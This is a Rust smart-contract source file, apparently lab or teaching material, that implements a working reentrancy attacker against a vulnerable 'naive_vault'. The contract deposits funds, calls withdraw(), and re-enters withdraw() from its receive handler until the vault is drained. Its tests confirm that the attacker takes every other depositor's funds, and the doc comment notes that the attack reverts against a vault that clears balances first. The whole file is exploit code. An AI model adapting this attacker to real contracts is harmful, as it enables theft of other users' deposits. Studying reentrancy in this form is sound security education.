//! Attacks `naive_vault` by re-entering `withdraw()` from its `receive` handler.
//!
//! - constructor `(address vault)`;
//! - `attack(uint256 rounds) payable -> uint256`: deposits the value sent into the vault, then
//!   calls `withdraw()`. Each time the vault pays, the `receive` handler calls `withdraw()`
//!   again, up to `rounds` times and while the vault still holds at least the deposit. Returns
//!   the attacker's balance afterwards (the deposit plus what it stole);
//! - `receive` (empty calldata): the re-entry described above when the vault pays during an
//!   attack; otherwise it just accepts the value;
//! - `reentries() -> uint256`: re-entries done by the last attack; `vault() -> address`.
//!
//! With the vault holding `k` other deposits of the same size, `attack(k)` drains it. Against a
//! vault that clears the balance before sending, the second `withdraw` reverts with "nothing
//! to withdraw", so the attack reverts as a whole.
//!
//! Storage: 0 vault, 1 deposit, 2 rounds left, 3 re-entries.

#![no_std]

use tally_sdk::prelude::*;

const VAULT: Slot<Address> = Slot::new(0);
const DEPOSIT: Slot<U256> = Slot::new(1);
const ROUNDS_LEFT: Slot<U256> = Slot::new(2);
const REENTRIES: Slot<U256> = Slot::new(3);

const DEPOSIT_SEL: u32 = selector!("deposit()");
const WITHDRAW_SEL: u32 = selector!("withdraw()");

entry_points!(call = dispatch, deploy = constructor);

pub fn constructor() {
    let (vault,): (Address,) = abi::decode(env::input());
    VAULT.set(&vault);
}

pub fn dispatch() {
    dispatch! {
        receive => on_receive;
        fn attack(U256) payable => attack;
        fn reentries() => || REENTRIES.get();
        fn vault() => || VAULT.get();
    }
}

fn attack(rounds: U256) -> U256 {
    let vault = VAULT.get();
    let deposit = env::call_value();
    require(!deposit.is_zero(), "Attacker: send a deposit");
    DEPOSIT.set(&deposit);
    ROUNDS_LEFT.set(&rounds);
    REENTRIES.set(&U256::ZERO);
    let input = DEPOSIT_SEL.to_be_bytes();
    let status = env::call(&vault, &deposit, env::ALL_GAS, &input);
    require(status.is_success(), "Attacker: deposit failed");
    withdraw(&vault);
    env::self_balance()
}

fn on_receive() {
    let vault = VAULT.get();
    if env::caller() != vault {
        return;
    }
    let left = ROUNDS_LEFT.get();
    if left.is_zero() || env::balance(&vault) < DEPOSIT.get() {
        return;
    }
    ROUNDS_LEFT.set(&left.wrapping_sub(&U256::ONE));
    REENTRIES.set(&REENTRIES.get().wrapping_add(&U256::ONE));
    withdraw(&vault);
}

fn withdraw(vault: &Address) {
    let input = WITHDRAW_SEL.to_be_bytes();
    let status = env::call(vault, &U256::ZERO, env::ALL_GAS, &input);
    if status != CallStatus::Success {
        // Pass the vault's reason on.
        revert(env::return_data());
    }
}

#[cfg(test)]
mod tests {
    extern crate std;
    use std::vec::Vec;

    use super::*;
    use tally_sdk::testing::{self, CallRequest};

    const ATTACKER: Address = Address([0xa7; 20]);
    const OWNER: Address = Address([0x0e; 20]);
    const VAULT_ADDR: Address = Address([0x7a; 20]);

    fn u(n: u64) -> U256 {
        U256::from_u64(n)
    }

    /// A stand-in for naive_vault: `withdraw()` pays 10 and runs the attacker's `receive`
    /// before returning, as the real one does.
    fn fake_vault(req: &CallRequest) -> (u32, Vec<u8>) {
        assert_eq!(req.to, VAULT_ADDR);
        let selector = u32::from_be_bytes(req.input[..4].try_into().unwrap());
        if selector == WITHDRAW_SEL {
            let vault_balance = testing::balance_of(VAULT_ADDR);
            if vault_balance < u(10) {
                return (1, Vec::new());
            }
            testing::set_balance(VAULT_ADDR, vault_balance.wrapping_sub(&u(10)));
            let mine = testing::balance_of(ATTACKER);
            testing::set_balance(ATTACKER, mine.wrapping_add(&u(10)));
            testing::set_caller(VAULT_ADDR);
            let value = testing::value();
            testing::set_value(U256::ZERO);
            testing::run(dispatch, &[]).unwrap();
            testing::set_value(value);
            testing::set_caller(OWNER);
        }
        (0, Vec::new())
    }

    #[test]
    fn drains_the_vault() {
        testing::reset();
        testing::set_address(ATTACKER);
        testing::set_caller(OWNER);
        testing::run(constructor, abi::encode(&VAULT_ADDR)).unwrap();
        testing::set_balance(OWNER, u(10));
        testing::set_balance(VAULT_ADDR, u(30)); // three other deposits of 10
        testing::set_call_handler(fake_vault);
        testing::set_value(u(10));
        let attack = abi::encode_call(selector!("attack(uint256)"), &u(5));
        let out = testing::run(dispatch, attack).unwrap();
        testing::set_value(U256::ZERO);
        assert_eq!(out, u(40).to_be_bytes());
        assert_eq!(testing::balance_of(VAULT_ADDR), U256::ZERO);
        let out = testing::run(dispatch, &selector!("reentries()").to_be_bytes()).unwrap();
        assert_eq!(out, u(3).to_be_bytes());
    }

    #[test]
    fn plain_transfers_are_accepted() {
        testing::reset();
        testing::run(constructor, abi::encode(&VAULT_ADDR)).unwrap();
        testing::run(dispatch, &[]).unwrap();
    }
}
